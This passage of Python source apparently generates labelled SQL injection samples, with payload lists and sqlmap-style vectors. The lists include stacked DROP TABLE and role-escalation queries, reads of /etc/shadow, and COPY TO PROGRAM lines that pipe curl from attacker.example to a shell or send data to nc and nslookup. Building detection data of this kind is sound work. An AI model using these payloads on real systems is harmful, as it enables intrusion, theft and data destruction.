        "AND (SELECT pg_sleep_for('4 seconds')) IS NULL", "AND (SELECT 1 FROM pg_sleep_until(now()+interval '6 s'))=1",
        "AND (SELECT count(*) FROM generate_series(1,30000000))>0", "AND (SELECT sum(a*b) FROM generate_series(1,3000) a, generate_series(1,3000) b)>0",
        "OR 1=(SELECT 1 FROM pg_sleep(3) WHERE ascii(current_database())>64)",
    ],
    "boolean_blind": [
        "AND (SELECT count(*) FROM users)>0", "AND substr(current_user,1,1)='p'", "AND ascii(substring(version() from 1 for 1))=80",
        "AND (SELECT rolsuper FROM pg_roles WHERE rolname=current_user)", "AND exists(SELECT 1 FROM admins WHERE login='root')",
        "AND length(current_database())>4", "AND (SELECT left(pass_md5,1) FROM admins LIMIT 1)>'7'", "AND current_setting('is_superuser')='on'",
        "AND (SELECT count(*) FROM pg_database)>3", "AND position('Ubuntu' in version())>0", "AND (SELECT usename FROM pg_user LIMIT 1) LIKE 'p%'",
        "AND has_database_privilege(current_database(),'CREATE')", "AND 1=(SELECT CASE WHEN (SELECT count(*) FROM pg_stat_activity)>1 THEN 1 ELSE 0 END)",
    ],
    "error_cast": [
        "AND 1=CAST(current_user AS int)", "AND 1=(SELECT version())::int", "AND 1=(SELECT string_agg(login, ',') FROM admins)::int",
        "AND 1=cast(current_database() as numeric)", "AND 1=(SELECT passwd FROM pg_shadow LIMIT 1)::int", "AND 1=1/(SELECT 0)",
        "AND 1=database_to_xml(true,true,'')::text::int", "AND 1=(SELECT query_to_xml('select * from pg_user',true,true,''))::text::int",
        "AND 1=to_number(session_user, '999')", "AND 1=CAST(current_setting('data_directory') AS integer)", "AND 1=(row_to_json((SELECT r FROM (SELECT current_user) r)))::text::int",
        "AND 1=CAST((SELECT key_hash FROM api_keys LIMIT 1) AS bigint)", "AND 1=(SELECT 1 FROM generate_series(1,2))",
    ],
    "oob_file_program": [
        "; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/x | sh'", "; COPY users FROM PROGRAM 'cat /etc/passwd'",
        "; COPY (SELECT login, pass_md5 FROM admins) TO '/tmp/dump.txt'", "; COPY accounts TO PROGRAM 'nc 198.51.100.9 4444'",
        "; SELECT lo_import('/etc/shadow')", "; SELECT lo_export(16400, '/var/lib/postgresql/.ssh/authorized_keys')",
        "AND length(pg_read_file('/etc/passwd'))>0", "UNION SELECT pg_read_file('postgresql.auto.conf'), NULL", "; SELECT pg_ls_dir('/etc')",
        "AND (SELECT count(*) FROM pg_ls_waldir())>0", "; SELECT * FROM dblink('host=evil.example dbname=x user=x', 'SELECT 1') AS t(a int)",
        "; SELECT dblink_exec('host=203.0.113.5 user=x', 'CREATE TABLE leak(x text)')", "; CREATE TEMP TABLE o(x text); COPY o FROM PROGRAM 'id'",
        "; SELECT pg_read_binary_file('global/pg_control')", "; COPY (SELECT current_user) TO PROGRAM 'nslookup $(whoami).attacker.example'",
        "; SELECT lo_get(lo_import('/etc/hostname'))",
    ],
    "plpgsql_do_exec": [
        "; DO $$BEGIN EXECUTE 'DROP TABLE orders'; END$$", "; DO $$ BEGIN PERFORM pg_sleep(7); END $$",
        "; DO $p$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables WHERE schemaname='public' LOOP EXECUTE 'DROP TABLE ' || r.tablename; END LOOP; END $p$",
        "; DO $$ BEGIN EXECUTE 'CREATE ROLE ' || 'x' || ' SUPERUSER LOGIN'; END $$", "; DO 'BEGIN PERFORM pg_sleep(4); END'",
        "; CREATE OR REPLACE FUNCTION pwn() RETURNS void AS $$ BEGIN EXECUTE 'TRUNCATE accounts'; END $$ LANGUAGE plpgsql; SELECT pwn()",
        "; DO $$ BEGIN EXECUTE format('ALTER USER %I SUPERUSER', current_user); END $$",
        "; DO $x$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch /tmp/pwn'''; END $x$", "; DO LANGUAGE plpgsql 'BEGIN RAISE EXCEPTION ''%'', version(); END'",
        "; CREATE FUNCTION sx_run(text) RETURNS void LANGUAGE plpgsql AS $f$BEGIN EXECUTE $1; END$f$",
    ],
    "dollar_quote": [
        "OR $$a$$=$$a$$", "OR $q$1$q$=$q$1$q$", "UNION SELECT $$x$$, $$y$$", "; SELECT $s$payload$s$", "AND current_user=$u$postgres$u$",
        "; INSERT INTO admins (login, role) VALUES ($$mallory$$, $$owner$$)", "OR $t$a$t$ < $t$b$t$", "AND 1=CAST($$v$$||version() AS int)",
        "; UPDATE users SET email=$$attacker@evil.example$$",
    ],
    "e_escape": [
        "OR E'\\x31'=E'\\x31'", "AND current_user=E'\\x70ostgres'", "UNION SELECT E'\\x75sername', E'\\x70assword'",
        "OR E'\\101'='A'", "; DROP TABLE E'\\x75sers'", "AND 1=CAST(E'\\x2d'||version() AS int)", "OR U&'\\0061'='a'",
        "AND version() LIKE E'\\x50%'", "; SELECT pg_read_file(E'/etc/\\x70asswd')", "OR E'\\u0041'='A'",
    ],
}

CONCAT = [  # breakouts that concatenate a subquery into a string slot
    ("string_concat_subquery", "'||(SELECT login FROM admins LIMIT 1)||'"), ("string_concat_subquery", "'||current_user||'"),
    ("string_concat_subquery", "'||(SELECT pass_md5 FROM admins WHERE login='root')||'"), ("string_concat_subquery", "'||current_database()||'"),
    ("string_concat_subquery", "'||(SELECT string_agg(usename, ',') FROM pg_user)||'"), ("string_concat_subquery", "'||(SELECT count(*) FROM users)||'"),
    ("string_concat_subquery", "'||inet_server_addr()||'"), ("string_concat_subquery", "'||(SELECT key_hash FROM api_keys LIMIT 1)||'"),
    ("time_pg_sleep", "'||pg_sleep(5)||'"), ("string_concat_subquery", "'||session_user||'"),
]
NUM_EXPR = [  # a number slot replaced by an expression or subquery
    ("string_concat_subquery", "(SELECT count(*) FROM admins)"), ("string_concat_subquery", "length(current_user)"),
    ("string_concat_subquery", "(SELECT id FROM users ORDER BY id LIMIT 1)"), ("string_concat_subquery", "ascii(current_database())"),
    ("time_pg_sleep", "(SELECT 1 FROM pg_sleep(6))"), ("error_cast", "(SELECT current_user::int)"),
    ("boolean_blind", "(CASE WHEN substr(current_user,1,1)='p' THEN 1 ELSE 0 END)"), ("tautology", "1 OR 1=1"),
    ("stacked", "1; DELETE FROM users"), ("union", "0 UNION SELECT NULL"),
]

OBF_BASES = [  # (technique, core) used for the obf_* families
    ("tautology", "OR 9=9"), ("tautology", "OR 'w'='w'"), ("union", "UNION SELECT username, password FROM users"),
    ("time_pg_sleep", "AND 3=(SELECT 3 FROM pg_sleep(8))"), ("stacked", "; DROP TABLE users"), ("boolean_blind", "AND substr(current_user,1,1)='p'"),
    ("error_cast", "AND 1=CAST(current_user AS int)"), ("oob_file_program", "; SELECT lo_import('/etc/shadow')"),
    ("union", "UNION ALL SELECT table_schema, table_name FROM information_schema.tables"), ("stacked", "; UPDATE admins SET role='owner'"),
]

KEYWORDS = {"UNION", "SELECT", "DROP", "TABLE", "PG_SLEEP", "CAST", "UPDATE", "COPY", "PROGRAM", "FROM", "SUBSTR", "LO_IMPORT", "INFORMATION_SCHEMA"}

# (technique, dbms, title, vector).  Vectors starting with "(" replace the
# value, "," extend an ORDER BY/GROUP BY item, ";" are stacked, the rest
# follow the (closed) value.  [V] is the original value; [Q] a data query.
SQLMAP = [
    # ---- boolean-based blind
    ("boolean", "generic", "AND boolean-based blind - WHERE or HAVING clause", "AND [N]=[N]"),
    ("boolean", "generic", "AND boolean-based blind - WHERE or HAVING clause (false)", "AND [N]=[N1]"),
    ("boolean", "generic", "OR boolean-based blind - WHERE or HAVING clause", "OR [N]=[N]"),
    ("boolean", "generic", "OR boolean-based blind - WHERE or HAVING clause (NOT)", "OR NOT [N]=[N1]"),
    ("boolean", "generic", "AND boolean-based blind - WHERE or HAVING clause (subquery - comment)", "AND [N]=(SELECT (CASE WHEN ([N]=[N]) THEN [N] ELSE (SELECT [N1] UNION SELECT [N2]) END))"),
    ("boolean", "generic", "OR boolean-based blind - WHERE or HAVING clause (subquery - comment)", "OR [N]=(SELECT (CASE WHEN ([N]=[N1]) THEN [N] ELSE (SELECT [N1] UNION SELECT [N2]) END))"),
    ("boolean", "generic", "Boolean-based blind - Parameter replace (original value)", "(SELECT (CASE WHEN ([N]=[N]) THEN [V] ELSE (SELECT [N1] UNION SELECT [N2]) END))"),
    ("boolean", "generic", "Boolean-based blind - Parameter replace (CASE)", "(CASE WHEN [N]=[N] THEN [N] ELSE NULL END)"),
    ("boolean", "generic", "Boolean-based blind - Parameter replace (DUAL)", "(CASE WHEN ([N]=[N]) THEN [N] ELSE [N]*(SELECT [N] FROM DUAL UNION SELECT [N1] FROM DUAL) END)"),
    ("boolean", "generic", "Generic boolean-based blind - Stacked queries", ";SELECT (CASE WHEN ([N]=[N]) THEN [N] ELSE [N]*(SELECT [N] UNION ALL SELECT [N1]) END)"),
    ("boolean", "PostgreSQL", "PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", "AND (SELECT (CASE WHEN ([N]=[N]) THEN NULL ELSE CAST(([DSC]) AS NUMERIC) END)) IS NULL"),
    ("boolean", "PostgreSQL", "PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", "OR (SELECT (CASE WHEN ([N]=[N1]) THEN NULL ELSE CAST(('[S]') AS NUMERIC) END)) IS NULL"),
    ("boolean", "PostgreSQL", "PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES)", "(SELECT * FROM GENERATE_SERIES([N],[N],CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END) LIMIT 1)"),
    ("boolean", "PostgreSQL", "PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", ",(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 1/(SELECT 0) END))"),
    ("boolean", "PostgreSQL", "PostgreSQL boolean-based blind - ORDER BY clause (original value)", ",(SELECT CASE WHEN [N]=[N] THEN [V] ELSE 1/(SELECT 0) END)"),
    ("boolean", "PostgreSQL", "PostgreSQL boolean-based blind - ORDER BY clause (GENERATE_SERIES)", ",(SELECT * FROM GENERATE_SERIES([N],[N],CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END) LIMIT 1)"),
    ("boolean", "PostgreSQL", "PostgreSQL boolean-based blind - Stacked queries", ";SELECT (CASE WHEN ([N]=[N]) THEN [N] ELSE 1/(SELECT 0) END)"),
    ("boolean", "PostgreSQL", "PostgreSQL AND boolean-based blind - inference (ASCII/SUBSTRING)", "AND ASCII(SUBSTRING(([Q])::text FROM [K] FOR 1))>[A]"),
    ("boolean", "PostgreSQL", "PostgreSQL AND boolean-based blind - inference (LENGTH)", "AND LENGTH(COALESCE(CAST([Q] AS VARCHAR(10000))::text,(CHR(32))))>[K]"),
    ("boolean", "generic", "HAVING boolean-based blind - WHERE, GROUP BY clause", "HAVING [N]=[N]"),
    ("boolean", "MySQL", "MySQL RLIKE boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause", "RLIKE (SELECT (CASE WHEN ([N]=[N]) THEN [SH] ELSE 0x28 END))"),
    ("boolean", "MySQL", "MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (MAKE_SET)", "AND MAKE_SET([N]=[N],[N1])"),
    ("boolean", "MySQL", "MySQL OR boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (ELT)", "OR ELT([N]=[N1],[N1])"),
    ("boolean", "MySQL", "MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (UPDATEXML)", "AND UPDATEXML([N],CASE WHEN ([N]=[N]) THEN [N] ELSE 0x3A END,[N1])"),
    ("boolean", "MySQL", "MySQL boolean-based blind - Parameter replace (MAKE_SET)", "MAKE_SET([N]=[N],[N1])"),
    ("boolean", "Microsoft SQL Server", "Microsoft SQL Server/Sybase AND boolean-based blind - WHERE or HAVING clause (IIF)", "AND IIF([N]=[N],1,1/0)=1"),
    ("boolean", "Microsoft SQL Server", "Microsoft SQL Server/Sybase boolean-based blind - Parameter replace (original value)", "(SELECT (CASE WHEN ([N]=[N]) THEN [V] ELSE (SELECT [N1] UNION SELECT [N2]) END))"),
    ("boolean", "Oracle", "Oracle OR boolean-based blind - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "OR (SELECT (CASE WHEN ([N]=[N1]) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,[N]) END) FROM DUAL) IS NULL"),
    ("boolean", "SQLite", "SQLite OR boolean-based blind - WHERE, HAVING, GROUP BY or HAVING clause (JSON)", "OR CASE WHEN [N]=[N1] THEN [N] ELSE JSON(CHAR([A],[A])) END"),
    ("boolean", "Informix", "Informix AND boolean-based blind - WHERE or HAVING clause", "AND [N]=(SELECT [N] FROM SYSMASTER:SYSDUAL WHERE [N]=[N])"),
    # ---- time-based blind
    ("time", "PostgreSQL", "PostgreSQL > 8.1 AND time-based blind", "AND [N]=(SELECT [N] FROM PG_SLEEP([T]))"),
    ("time", "PostgreSQL", "PostgreSQL > 8.1 OR time-based blind", "OR [N]=(SELECT [N] FROM PG_SLEEP([T]))"),
    ("time", "PostgreSQL", "PostgreSQL > 8.1 AND time-based blind (comment)", "AND [N]=(SELECT [N] FROM PG_SLEEP([T]))--"),
    ("time", "PostgreSQL", "PostgreSQL AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(*) FROM GENERATE_SERIES(1,[H]))"),
    ("time", "PostgreSQL", "PostgreSQL OR time-based blind (heavy query)", "OR [N]=(SELECT COUNT(*) FROM GENERATE_SERIES(1,[H]))"),
    ("time", "PostgreSQL", "PostgreSQL > 8.1 time-based blind - Parameter replace", "(SELECT [N] FROM PG_SLEEP([T]))"),
    ("time", "PostgreSQL", "PostgreSQL time-based blind - Parameter replace (heavy query)", "(SELECT COUNT(*) FROM GENERATE_SERIES(1,[H]))"),
    ("time", "PostgreSQL", "PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", ",(SELECT [N] FROM PG_SLEEP([T]))"),
    ("time", "PostgreSQL", "PostgreSQL time-based blind - ORDER BY, GROUP BY clause (heavy query)", ",(SELECT COUNT(*) FROM GENERATE_SERIES(1,[H]))"),
    ("time", "PostgreSQL", "PostgreSQL AND time-based blind - inference", "AND [N]=(CASE WHEN (ASCII(SUBSTRING(([Q])::text FROM [K] FOR 1))>[A]) THEN (SELECT [N] FROM PG_SLEEP([T])) ELSE [N] END)"),
    ("time", "MySQL", "MySQL >= 5.0.12 AND time-based blind (query SLEEP)", "AND (SELECT [N] FROM (SELECT(SLEEP([T])))[S])"),
    ("time", "MySQL", "MySQL >= 5.0.12 OR time-based blind (query SLEEP)", "OR (SELECT [N] FROM (SELECT(SLEEP([T])))[S])"),
    ("time", "MySQL", "MySQL >= 5.0.12 AND time-based blind (SLEEP)", "AND SLEEP([T])"),
    ("time", "MySQL", "MySQL >= 5.0.12 time-based blind - Parameter replace", "(CASE WHEN ([N]=[N]) THEN SLEEP([T]) ELSE [N] END)"),
    ("time", "MySQL", "MySQL < 5.0.12 OR time-based blind (BENCHMARK)", "OR [N]=BENCHMARK([H],MD5([SH]))"),
    ("time", "Microsoft SQL Server", "Microsoft SQL Server/Sybase time-based blind (IF - comment)", "IF([N]=[N]) WAITFOR DELAY '0:0:[T]'--"),
    ("time", "Microsoft SQL Server", "Microsoft SQL Server/Sybase OR time-based blind (heavy query)", "OR [N]=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers AS sys5)"),
    ("time", "Oracle", "Oracle OR time-based blind", "OR [N]=DBMS_PIPE.RECEIVE_MESSAGE(CHR(112)||CHR(113)||CHR(122)||CHR(120),[T])"),
    ("time", "Oracle", "Oracle AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5)"),
    ("time", "SQLite", "SQLite > 2.0 OR time-based blind (heavy query)", "OR [N]=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))"),
    ("time", "SAP MaxDB", "SAP MaxDB AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(*) FROM DOMAIN.DOMAINS AS T1,DOMAIN.COLUMNS AS T2,DOMAIN.TABLES AS T3)"),
    ("time", "Informix", "Informix AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(*) FROM SYSMASTER:SYSPAGHDR)"),
    ("time", "H2", "H2 AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(*) FROM INFORMATION_SCHEMA.SYSTEM_USERS AS T1,INFORMATION_SCHEMA.SYSTEM_USERS AS T2,INFORMATION_SCHEMA.SYSTEM_USERS AS T3)"),
    # ---- error-based
    ("error", "PostgreSQL", "PostgreSQL AND error-based - WHERE or HAVING clause", "AND [N]=CAST([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC] AS NUMERIC)"),
    ("error", "PostgreSQL", "PostgreSQL AND error-based - WHERE or HAVING clause (literal delimiters)", "AND [N]=CAST('[DS]'||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||'[DE]' AS NUMERIC)"),
    ("error", "PostgreSQL", "PostgreSQL OR error-based - WHERE or HAVING clause", "OR [N]=CAST([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC] AS NUMERIC)"),
    ("error", "PostgreSQL", "PostgreSQL AND error-based - data extraction", "AND [N]=CAST([DSC]||(SELECT COALESCE(CAST([Q] AS VARCHAR(10000))::text,(CHR(32))))::text||[DEC] AS NUMERIC)"),
    ("error", "PostgreSQL", "PostgreSQL error-based - Parameter replace", "(CAST([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC] AS NUMERIC))"),
    ("error", "PostgreSQL", "PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", "(CAST([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC] AS NUMERIC) FROM GENERATE_SERIES(1,1))"),
    ("error", "PostgreSQL", "PostgreSQL error-based - ORDER BY or GROUP BY clause", ",(CAST([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC] AS NUMERIC))"),
    ("error", "PostgreSQL", "PostgreSQL OR error-based - data extraction (pg_user)", "OR [N]=CAST([DSC]||(SELECT COALESCE(CAST(usename AS VARCHAR(10000))::text,(CHR(32))) FROM pg_user OFFSET [K] LIMIT 1)::text||[DEC] AS NUMERIC)"),
    ("error", "MySQL", "MySQL >= 5.1 OR error-based - WHERE or HAVING clause (EXTRACTVALUE)", "OR EXTRACTVALUE([N],CONCAT(0x5c,[DSH],(SELECT (ELT([N]=[N],1))),[DEH]))"),
    ("error", "MySQL", "MySQL >= 5.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (UPDATEXML)", "AND UPDATEXML([N],CONCAT(0x2e,[DSH],(SELECT (ELT([N]=[N],1))),[DEH]),[N1])"),
    ("error", "MySQL", "MySQL >= 5.0 OR error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)", "OR ROW([N],[N1])>(SELECT COUNT(*),CONCAT([DSH],(SELECT (ELT([N]=[N],1))),[DEH],FLOOR(RAND(0)*2))x FROM (SELECT [N2] UNION SELECT [N1] UNION SELECT [N] UNION SELECT [N2])a GROUP BY x)"),
    ("error", "MySQL", "MySQL >= 5.5 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (BIGINT UNSIGNED)", "AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT([DSH],(SELECT (ELT([N]=[N],1))),[DEH],0x78))s), 8446744073709551610, 8446744073709551610)))"),
    ("error", "MySQL", "MySQL >= 5.0 error-based - Parameter replace (FLOOR)", "(SELECT [N] FROM(SELECT COUNT(*),CONCAT([DSH],(SELECT (ELT([N]=[N],1))),[DEH],FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)"),
    ("error", "Microsoft SQL Server", "Microsoft SQL Server/Sybase OR error-based - WHERE or HAVING clause (IN)", "OR [N] IN (SELECT ([DSM]+(SELECT (CASE WHEN ([N]=[N]) THEN CHAR(49) ELSE CHAR(48) END))+[DEM]))"),
    ("error", "Microsoft SQL Server", "Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (CONCAT)", "AND [N]=CONCAT([DSM],(SELECT (CASE WHEN ([N]=[N]) THEN CHAR(49) ELSE CHAR(48) END)),[DEM])"),
    ("error", "Oracle", "Oracle OR error-based - WHERE or HAVING clause (XMLType)", "OR [N]=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||[DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END) FROM DUAL)||[DEC]||CHR(62))) FROM DUAL)"),
    ("error", "Oracle", "Oracle AND error-based - WHERE or HAVING clause (DBMS_UTILITY.SQLID_TO_SQLHASH)", "AND [N]=DBMS_UTILITY.SQLID_TO_SQLHASH(([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END) FROM DUAL)||[DEC]))"),
    ("error", "Firebird", "Firebird OR error-based - WHERE or HAVING clause", "OR [N]=('[DS]'||(SELECT CASE [N] WHEN [N] THEN 1 ELSE 0 END FROM RDB$DATABASE)||'[DE]')"),
    ("error", "MonetDB", "MonetDB AND error-based - WHERE or HAVING clause", "AND [N]=('[DS]'||(SELECT CASE [N] WHEN [N] THEN CODE(49) ELSE CODE(48) END)||'[DE]')"),
    ("error", "Vertica", "Vertica AND error-based - WHERE or HAVING clause", "AND [N]=CAST('[DS]'||(SELECT (CASE WHEN ([N]=[N]) THEN BITCOUNT(BITSTRING_TO_BINARY('1')) ELSE BITCOUNT(BITSTRING_TO_BINARY('0')) END))::varchar||'[DE]' AS NUMERIC)"),
    # ---- stacked queries
    ("stacked", "PostgreSQL", "PostgreSQL > 8.1 stacked queries (comment)", ";SELECT PG_SLEEP([T])--"),
    ("stacked", "PostgreSQL", "PostgreSQL > 8.1 stacked queries", ";SELECT PG_SLEEP([T])"),
    ("stacked", "PostgreSQL", "PostgreSQL stacked queries (heavy query)", ";SELECT COUNT(*) FROM GENERATE_SERIES(1,[H])"),
    ("stacked", "PostgreSQL", "PostgreSQL > 8.1 stacked queries (conditional - comment)", ";SELECT (CASE WHEN ([N]=[N]) THEN (SELECT [N] FROM PG_SLEEP([T])) ELSE [N] END)--"),
    ("stacked", "PostgreSQL", "PostgreSQL takeover - output table (--os-cmd)", ";DROP TABLE IF EXISTS sqlmapoutput;CREATE TABLE sqlmapoutput(data text);COPY sqlmapoutput(data) FROM PROGRAM 'id';--"),
    ("stacked", "PostgreSQL", "PostgreSQL takeover - file read (--file-read)", ";CREATE TABLE sqlmapfile(data text);SELECT lo_import('/etc/passwd',[N]);--"),
    ("stacked", "PostgreSQL", "PostgreSQL takeover - UDF (sys_eval)", ";CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/libsqlmap[S].so','sys_eval' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE;--"),
    ("stacked", "MySQL", "MySQL >= 5.0.12 stacked queries", ";SELECT SLEEP([T])"),
    ("stacked", "MySQL", "MySQL >= 5.0.12 stacked queries (query SLEEP)", ";(SELECT * FROM (SELECT(SLEEP([T])))[S])#"),
    ("stacked", "Microsoft SQL Server", "Microsoft SQL Server/Sybase stacked queries", ";WAITFOR DELAY '0:0:[T]'"),
    ("stacked", "Microsoft SQL Server", "Microsoft SQL Server/Sybase stacked queries (xp_cmdshell)", ";EXEC master..xp_cmdshell 'ping -n [T] 127.0.0.1'--"),
    ("stacked", "Oracle", "Oracle stacked queries (USER_LOCK.SLEEP - comment)", ";BEGIN USER_LOCK.SLEEP([T]); END--"),
    ("stacked", "SQLite", "SQLite > 2.0 stacked queries (heavy query)", ";SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(300000000/2))))"),
    ("stacked", "IBM DB2", "IBM DB2 stacked queries (heavy query - comment)", ";SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3--"),
    # ---- inline queries
    ("inline", "PostgreSQL", "PostgreSQL inline queries", "(SELECT [DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC])"),
    ("inline", "PostgreSQL", "PostgreSQL inline queries (data extraction)", "(SELECT [DSC]||COALESCE(CAST([Q] AS VARCHAR(10000))::text,(CHR(32)))||[DEC])"),
    ("inline", "MySQL", "MySQL inline queries", "(SELECT CONCAT([DSH],(ELT([N]=[N],1)),[DEH]))"),
    ("inline", "Microsoft SQL Server", "Microsoft SQL Server/Sybase inline queries", "(SELECT [DSM]+(CASE WHEN ([N]=[N]) THEN CHAR(49) ELSE CHAR(48) END)+[DEM])"),
    ("inline", "Oracle", "Oracle inline queries", "(SELECT [DSC]||(CASE WHEN [N]=[N] THEN 1 ELSE 0 END)||[DEC] FROM DUAL)"),
    ("inline", "SQLite", "SQLite inline queries", "SELECT '[DS]'||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))||'[DE]'"),
    ("inline", "IBM DB2", "IBM DB2 inline queries", "(SELECT '[DS]'||(CASE WHEN [N]=[N] THEN 1 ELSE 0 END)||'[DE]' FROM SYSIBM.SYSDUMMY1)"),
]
SQLMAP_FAMILY = {"boolean": "sqlmap_boolean_blind", "time": "sqlmap_time_blind", "error": "sqlmap_error_based",
                 "stacked": "sqlmap_stacked_queries", "inline": "sqlmap_inline_query", "union": "sqlmap_union_query"}


def instantiate(vec, orig):
    return subst(vec.replace("[V]", orig).replace("[Q]", R.choice(PG_QUERIES)))


def union_vector(dbms):
    ncols = R.randint(1, 10)
    ds, de = marker(), marker()
    style = R.random()
    if dbms == "PostgreSQL":
        if style < 0.4:
            mark = f"{pg_chr(ds)}||{pg_chr(rmix(R.choice([8, 16, 30])))}||{pg_chr(de)}"
        elif style < 0.8:
            mark = f"{pg_chr(ds)}||COALESCE(CAST({R.choice(PG_QUERIES)} AS VARCHAR(10000))::text,(CHR(32)))||{pg_chr(de)}"
        else:
            mark = f"'{ds}'||'{rmix(12)}'||'{de}'"
        filler = R.choice(["NULL", "NULL", "NULL::text", "NULL::int"])
    elif dbms == "MySQL":
        mark, filler = f"CONCAT({my_hex(ds)},{my_hex(rmix(10))},{my_hex(de)})", "NULL"
    elif dbms == "Microsoft SQL Server":
        mark, filler = f"{ms_char(ds)}+{ms_char(rmix(6))}+{ms_char(de)}", "NULL"
    elif dbms == "random":
        mark, filler = rnum(), rnum()
    else:
        mark, filler = f"{pg_chr(ds)}||{pg_chr(rmix(6))}||{pg_chr(de)}", "NULL"
    cols = [filler if dbms != "random" else rnum() for _ in range(ncols)]
    if R.random() < 0.85:
        cols[R.randrange(ncols)] = mark
    op = R.choice(["UNION ALL SELECT", "UNION ALL SELECT", "UNION ALL SELECT", "UNION SELECT"])
    v = f"{op} {','.join(cols)}"
    if dbms == "Oracle":
        v += " FROM DUAL"
    return v


def order_probe():
    return "ORDER BY " + str(R.choice([1, 2, 4, 6, 8, 11, 13, 16, R.randint(2000, 9999)]))


SQLMAP += SQLMAP_EXTRA

# ---------------------------------------------------------------------------
# Boundaries (sqlmap-like prefix/suffix pairs)
# ---------------------------------------------------------------------------
COMMENTS = ["-- ", "-- -", "--", "--+", "-- [S]", "/*", "#", ";--", "-- '"]
WRONG_CLOSES = ["'", "')", "'))", "\"", "%'", "`", "')))", "'\")", "\\'", "'}"]


def comment(dbms):
    if dbms == "MySQL" and R.random() < 0.5:
        return "#"
    if dbms == "Microsoft SQL Server" and R.random() < 0.3:
        return "--"
    return subst(R.choice(COMMENTS))


def orig_value(t, slot, kind):
    if kind in ("num", "numlist"):
        return R.choice(["1", "4", "17", "250", "9041", "3"])
    if kind == "bool":
        return R.choice(["true", "false"])
    if kind == "col":
        return R.choice(["id", "1", "created_at", "country"])
    if kind == "dir":
        return R.choice(["ASC", "DESC"])
    if slot in t["vals"]:
        vals = [v for v in t["vals"][slot][1] if "'" not in v and "\\" not in v and "$" not in v and len(v) < 25]
        if vals and R.random() < 0.6:
            return R.choice(vals)
    return R.choice(["1", "test", "admin", "abc", "foo", "x"])


def str_boundary(t, slot):
    """(close, suffix) for a quoted slot; suffix None means: end with a comment."""
    right = close_of(t, slot)
    close = right if R.random() < 0.78 else R.choice(WRONG_CLOSES)
    r = R.random()
    if r < 0.45:
        return close, None
    if close == right and reopen_of(t, slot) and r < 0.85:
        return close, reopen_of(t, slot).replace("'z'='z", "'[S]'='[S]").replace("'z%'='z", "'[S]%'='[S]")
    if close.startswith("'") or close.startswith("%'"):
        opens = close.count(")")
        if t["like"] and R.random() < 0.5:
            return close, " AND " + "(" * opens + "'[S]%'='[S]"
        return close, " AND " + "(" * opens + "'[S]'='[S]"
    return close, None


def sqlmap_attack(t, slot, kind, tech, dbms, vec):
    """Attack input (unescaped) for one slot, or None if the vector does not fit."""
    orig = orig_value(t, slot, kind)
    replaces = vec.startswith("(") or vec.startswith("SELECT") or vec.startswith("MAKE_SET")
    order = vec.startswith(",")
    stacked = vec.startswith(";")
    body = vec if tech == "union" else instantiate(vec, orig if kind in ("num", "numlist", "col", "bool") else "1")
    if kind in ("col", "dir"):
        if order or stacked:
            return orig + body
        if replaces:
            return body if kind == "col" else orig + "," + body
        tail = " " + comment(dbms) if (tech == "union" or R.random() < 0.5) else ""
        return f"{orig} {body}{tail}"
    if order:
        return None
    if kind in ("num", "numlist", "bool"):
        if replaces:
            return body
        if vec.startswith("OR") and R.random() < 0.6:
            orig = "-" + rnum()
